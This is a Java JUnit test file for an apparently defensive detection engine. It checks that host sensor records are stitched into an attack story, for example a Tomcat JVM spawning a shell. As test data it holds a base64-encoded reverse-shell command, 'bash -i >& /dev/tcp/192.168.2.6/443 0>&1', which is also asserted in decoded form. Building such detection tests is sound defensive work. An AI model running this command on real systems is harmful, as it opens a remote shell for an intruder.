package io.sightline.engine;

import static io.sightline.engine.Events.at;
import static io.sightline.engine.Events.process;
import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.asset.Inventory;
import io.sightline.event.FileAccess;
import io.sightline.event.ProcessExec;
import io.sightline.event.ProcessRef;
import io.sightline.event.RuntimeEvent;
import io.sightline.event.SourceRecord;
import io.sightline.finding.Severity;
import io.sightline.storyboard.Storyboard;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * Host sensors that see no accept and no parent start time (auditd, Sysmon for Linux): a JVM
 * running a servlet container still serves requests, and a parent named by pid only is the newest
 * process of that pid started by then, whichever record arrives first.
 */
class HostSensorStoriesTest {

    private static final String HOST = "ubuntu5";
    private static final String TOMCAT_ARGS = "-Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties"
            + " -classpath /opt/tomcat/bin/bootstrap.jar -Dcatalina.base=/opt/tomcat";
    /** {@code bash -i >& /dev/tcp/192.168.2.6/443 0>&1}, as the OTRF Log4Shell payload sends it. */
    private static final String ENCODED_REVERSE_SHELL =
            "-c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}";

    private final Events events = new Events();
    private final List<RuntimeEvent> fed = new ArrayList<>();

    @Test
    void aTomcatJvmThatSpawnsAShellIsTheWayInThoughNoAcceptWasSeen() {
        ProcessRef tomcat =
                process(HOST, 1340, -1600, "/usr/lib/jvm/java-8/jre/bin/java", TOMCAT_ARGS, Optional.empty());
        ProcessRef bash = process(HOST, 17790, 1, "/bin/bash", ENCODED_REVERSE_SHELL, Optional.empty());
        ProcessRef whoami = process(HOST, 17832, 12, "/usr/bin/whoami", "", Optional.empty());
        int spawn = feed(events.exec(bash, tomcat));
        int discovery = feed(events.exec(whoami, bash));

        List<Storyboard> storyboards = run();

        assertThat(storyboards).hasSize(1);
        Storyboard attack = storyboards.getFirst();
        assertThat(lines(attack)).containsExactlyInAnyOrder(spawn, discovery);
        assertThat(attack.trail().getFirst().text()).startsWith("java (serving requests) spawns bash -c {echo,");
        assertThat(attack.trail())
                .anyMatch(step ->
                        step.text().equals("bash starts a reverse shell: bash -i >& /dev/tcp/192.168.2.6/443 0>&1"));
        assertThat(attack.techniques().stream().map(Storyboard.TechniqueTag::id))
                .contains("T1190", "T1059.004", "T1140", "T1095", "T1033");
        // The reverse shell (command and control) corroborates the initial access.
        assertThat(attack.severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void jvmsWithoutAServletContainerInTheirArgumentsAreNoServers() {
        for (String args : List.of(
                "-jar build/libs/app.jar",
                "-classpath gradle-wrapper.jar org.gradle.wrapper.GradleWrapperMain build")) {
            ProcessRef jvm = process(HOST, 2000, -10, "/usr/bin/java", args, Optional.empty());
            ProcessRef sh = process(HOST, 2001, 1, "/bin/sh", "-c \"ls /tmp\"", Optional.empty());
            fed.clear();
            feed(events.exec(sh, jvm));

            assertThat(run()).as("java %s", args).isEmpty();
        }
    }

    @Test
    void servletContainerMarkersAreRecognised() {
        for (String args : List.of(
                "org.apache.catalina.startup.Bootstrap start",
                "-jar /opt/jetty/start.jar",
                "-D[Standalone] -jar /opt/wildfly/jboss-modules.jar",
                "-cp app.jar org.springframework.boot.loader.JarLauncher")) {
            ProcessNode node = new ProcessNode(new io.sightline.event.ProcessKey(HOST, 1, 0), at(0));
            node.executable = "/usr/bin/java";
            node.arguments = args;

            assertThat(Behaviours.isServer(node)).as("java %s", args).isTrue();
        }
    }

    @Test
    void aParentKnownByPidOnlyIsTheProcessThatExecedLast() {
        ProcessRef tomcat =
                ProcessRef.seenAlive(HOST, 1340, at(0.9), "/usr/bin/java", TOMCAT_ARGS, OptionalLong.empty());
        ProcessRef bash = process(HOST, 17790, 1, "/bin/bash", ENCODED_REVERSE_SHELL, Optional.empty());
        ProcessRef reverseShell = process(HOST, 17794, 1.1, "/bin/bash", "-i", Optional.empty());
        ProcessRef whoami = process(HOST, 17832, 12, "/usr/bin/whoami", "", Optional.empty());
        // A failed execve (the PATH search) describes the forking JVM, which never exec'd in the log.
        int pathSearch = feed(new FileAccess(
                events.next(),
                at(0.9),
                ProcessRef.seenAlive(HOST, 17790, at(0.9), "/usr/bin/java", TOMCAT_ARGS, OptionalLong.empty()),
                Optional.of(tomcat),
                "/usr/local/sbin/bash",
                FileAccess.Mode.READ));
        int whoamiExec = feed(byPid(whoami, 17794));
        int reverseShellExec = feed(byPid(reverseShell, 17790));
        int spawn = feed(byPid(bash, 1340));

        Storyboard attack = run().getFirst();

        assertThat(lines(attack))
                .containsExactlyInAnyOrder(spawn, reverseShellExec, whoamiExec)
                .doesNotContain(pathSearch);
        assertThat(attack.trail().getFirst().text()).startsWith("java (serving requests) spawns bash");
    }

    @Test
    void aChildNamedByPidBelongsToTheProcessOfThatPidThatRanAtTheTime() {
        ProcessRef server = process(HOST, 80, -100, "/usr/sbin/nginx", "", Optional.empty());
        ProcessRef earlierShell = process(HOST, 700, 5, "/bin/sh", "-c id", Optional.empty());
        ProcessRef reused = process(HOST, 700, 50, "/usr/bin/gzip", "-9 report.csv", Optional.empty());
        ProcessRef idExec = process(HOST, 701, 5.1, "/usr/bin/id", "", Optional.empty());
        ProcessRef late = process(HOST, 702, 60, "/usr/bin/tar", "cf x.tar .", Optional.empty());
        // The shell's child arrives before the shell's own exec; the reused pid's child after both.
        int idLine = feed(byPid(idExec, 700));
        int shellExec = feed(events.exec(earlierShell, server));
        feed(events.exec(reused, null));
        int tarExec = feed(byPid(late, 700));

        Storyboard attack = run().getFirst();

        assertThat(lines(attack)).contains(shellExec, idLine).doesNotContain(tarExec);
    }

    private ProcessExec byPid(ProcessRef process, long parentPid) {
        ProcessRef parent = ProcessRef.seenAlive(HOST, parentPid, process.startTime(), "", "", OptionalLong.empty());
        return new ProcessExec(events.next(), process.startTime(), process, Optional.of(parent));
    }

    private int feed(RuntimeEvent event) {
        fed.add(event);
        return event.source().line();
    }

    private List<Storyboard> run() {
        StoryboardEngine engine = new StoryboardEngine(new Inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);
        fed.forEach(engine::accept);
        return engine.storyboards();
    }

    private static Set<Integer> lines(Storyboard storyboard) {
        return storyboard.records().stream().map(SourceRecord::line).collect(Collectors.toSet());
    }
}
